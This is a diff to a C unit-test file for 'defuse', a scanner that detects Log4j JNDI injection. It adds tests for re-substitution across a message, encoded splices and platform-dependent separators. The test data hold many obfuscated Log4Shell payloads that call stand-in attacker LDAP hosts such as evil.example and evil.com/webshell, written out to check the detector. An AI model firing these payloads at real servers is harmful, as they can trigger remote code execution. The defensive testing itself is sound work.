@@ -189,11 +189,13 @@ static void nesting_limit(void **state) {
     s[k] = '\0';
     got g = scan(s, 0);
     /* Reported as recursion, and the callback inside is not lost. */
+    /* Most severe kind first (defuse.h): the JNDI request, then the
+     * recursion. */
     assert_int_equal(g.n, 2);
-    assert_int_equal(g.kind[0], DEFUSE_KIND_RECURSION);
-    assert_true(g.tech[0] & DEFUSE_TECH_DEPTH_LIMIT);
-    assert_int_equal(g.kind[1], DEFUSE_KIND_JNDI);
-    assert_string_equal(g.cb[1], "ldap://x");
+    assert_int_equal(g.kind[0], DEFUSE_KIND_JNDI);
+    assert_string_equal(g.cb[0], "ldap://x");
+    assert_int_equal(g.kind[1], DEFUSE_KIND_RECURSION);
+    assert_true(g.tech[1] & DEFUSE_TECH_DEPTH_LIMIT);
     free(s);
 
     /* More "$" escapes than re-substitution passes: 40 triggers, 17 "$". */
@@ -207,6 +209,103 @@ static void nesting_limit(void **state) {
     const char *const w17[] = {"ldap://x/17", NULL};
     expect_jndi(buf, 0, w17);
     expect_jndi(buf, DEFUSE_SCAN_EXACT | DEFUSE_SCAN_NO_DECODE, w17);
+}
+
+
+/* Returns the techniques of the JNDI finding with callback cb (normal mode
+ * unless flags say otherwise); fails if there is none. */
+static unsigned tech_of(const char *in, unsigned flags, const char *cb) {
+    got g = scan(in, flags);
+    for (int i = 0; i < g.n && i < MAXF; i++)
+        if (g.kind[i] == DEFUSE_KIND_JNDI && strcmp(g.cb[i], cb) == 0)
+            return g.tech[i];
+    fail_msg("input %s: no JNDI finding with callback '%s'", in, cb);
+    return 0;
+}
+
+/* Contiguous text is one message: MessagePatternConverter re-runs the
+ * substitution at every later "${" of the whole message, so a "$" that a
+ * lookup returns joins the "{" after it, and a "$" before "${" escapes it.
+ * Normal mode must agree with exact mode on both. */
+static void contiguous_message(void **state) {
+    (void)state;
+    JNDI("${::-x$}{jndi:ldap://evil.example/a}", "ldap://evil.example/a");
+    JNDI("${:1337:-x$}{jndi:ldap://evil.com/webshell}", "ldap://evil.com/webshell");
+    JNDI("${x}${lower:$}{jndi:ldap://evil.example/a}", "ldap://evil.example/a");
+    JNDI("${lower:$}{jndi:ldap://evil.example/a${x}}", "ldap://evil.example/a${x}");
+    JNDI("${lower:$}{jndi:ldap://evil.example/a}${", "ldap://evil.example/a");
+    JNDI("$${env:something:-${env:something:-$}{jndi:ldap://evil.example/a}}}",
+         "ldap://evil.example/a");
+    /* The "$" must land past the index that triggered the pass: here it
+     * lands on it, so only a later "${" re-runs the substitution. */
+    NONE("GET /?q=${::-$}{jndi:ldap://evil.example/q} HTTP/1.1");
+    JNDI("GET /?q=${::-$}{jndi:ldap://evil.example/q} ${x}", "ldap://evil.example/q");
+    /* "$" + "${" is the "$${" escape: no lookup at all. */
+    NONE("${lower:$}${jndi:ldap://evil.example/a}");
+    NONE("${::-$}${jndi:ldap://evil.example/a}");
+    /* An unclosed "${" is a field boundary: what follows is judged as the
+     * message of its own field, and says so. */
+    assert_true(tech_of("${ broken field ${jndi:ldap://x/y}", 0, "ldap://x/y") &
+                DEFUSE_TECH_FIELD_SPLIT);
+    assert_false(tech_of("${jndi:ldap://x/y} ${ broken", 0, "ldap://x/y") & DEFUSE_TECH_FIELD_SPLIT);
+}
+
+/* Every layer -- the raw bytes and each decoding -- is a text log4j may see:
+ * an encoded "${" spliced into a literal payload must not hide it. */
+static void every_layer(void **state) {
+    (void)state;
+    static const char *const splice[] = {"%24%7B",         "\\u0024\\u007b", "&#36;&#123;",
+                                         "\\x24\\x7b",     "%u0024%u007B",   "%2524%257B",
+                                         "&dollar;&lbrace;", "\\44\\173"};
+    for (size_t i = 0; i < sizeof splice / sizeof *splice; i++) {
+        char in[160], cb[128];
+        snprintf(cb, sizeof cb, "ldap://evil.example/a%s", splice[i]);
+        snprintf(in, sizeof in, "${jndi:%s}", cb);
+        const char *const w[] = {cb, NULL};
+        expect_jndi(in, DEFUSE_SCAN_EXACT | DEFUSE_SCAN_NO_DECODE, w);
+        got g = scan(in, 0);
+        bool raw = false;
+        for (int k = 0; k < g.n && k < MAXF; k++)
+            raw |= g.kind[k] == DEFUSE_KIND_JNDI && strcmp(g.cb[k], cb) == 0 &&
+                   !(g.tech[k] & DEFUSE_TECH_ENCODED);
+        if (!raw)
+            fail_msg("splice %s: normal mode misses the raw-layer callback %s", splice[i], cb);
+    }
+    /* The decoded layer still fires where only it holds a payload, and is
+     * named as decoded. */
+    assert_true(tech_of("q=%24%7Bjndi:ldap://x/enc%7D", 0, "ldap://x/enc") & DEFUSE_TECH_ENCODED);
+    /* Both texts fire with different names: both are reported. */
+    got g = scan("${jndi:ldap://x/%61}", 0);
+    int both = 0;
+    for (int k = 0; k < g.n && k < MAXF; k++)
+        both += g.kind[k] == DEFUSE_KIND_JNDI &&
+                (strcmp(g.cb[k], "ldap://x/%61") == 0 || strcmp(g.cb[k], "ldap://x/a") == 0);
+    assert_int_equal(both, 2);
+}
+
+/* ${sys:path.separator}, file.separator and line.separator are the same on
+ * every Unix JVM (and other values on Windows): evaluate both platforms and
+ * say which one a finding needs. */
+static void platform_constants(void **state) {
+    (void)state;
+    const char *in = "${jndi${sys:path.separator}ldap://evil.example/a}";
+    const char *const w[] = {"ldap://evil.example/a", NULL};
+    expect_jndi(in, DEFUSE_SCAN_EXACT | DEFUSE_SCAN_NO_DECODE, w);
+    expect_jndi(in, 0, w);
+    unsigned t = tech_of(in, 0, "ldap://evil.example/a");
+    assert_true(t & DEFUSE_TECH_UNIX_ONLY);
+    assert_false(t & DEFUSE_TECH_WINDOWS_ONLY);
+    /* A name that differs per platform: both, each named. */
+    in = "${jndi:ldap://x${sys:file.separator}a}";
+    assert_true(tech_of(in, 0, "ldap://x/a") & DEFUSE_TECH_UNIX_ONLY);
+    assert_true(tech_of(in, 0, "ldap://x\\a") & DEFUSE_TECH_WINDOWS_ONLY);
+    /* Not platform-dependent: no platform named. */
+    t = tech_of("${jndi:ldap://x/${sys:user.name}}", 0, "ldap://x/${sys:user.name}");
+    assert_false(t & (DEFUSE_TECH_UNIX_ONLY | DEFUSE_TECH_WINDOWS_ONLY));
+    /* line.separator: Windows' "\r\n" and Unix' "\n" */
+    in = "${jndi:ldap://x/${sys:line.separator}}";
+    assert_true(tech_of(in, 0, "ldap://x/\n") & DEFUSE_TECH_UNIX_ONLY);
+    assert_true(tech_of(in, 0, "ldap://x/\r\n") & DEFUSE_TECH_WINDOWS_ONLY);
 }
 
 static int stop_first(const defuse_finding *f, void *user) {
@@ -242,7 +341,8 @@ int main(void) {
         cmocka_unit_test(worked_examples), cmocka_unit_test(substitution_corners),
         cmocka_unit_test(kinds),           cmocka_unit_test(positions_in_a_log_line),
         cmocka_unit_test(nesting_limit),   cmocka_unit_test(callback_can_stop),
-        cmocka_unit_test(names),
+        cmocka_unit_test(names),           cmocka_unit_test(contiguous_message),
+        cmocka_unit_test(every_layer),     cmocka_unit_test(platform_constants),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
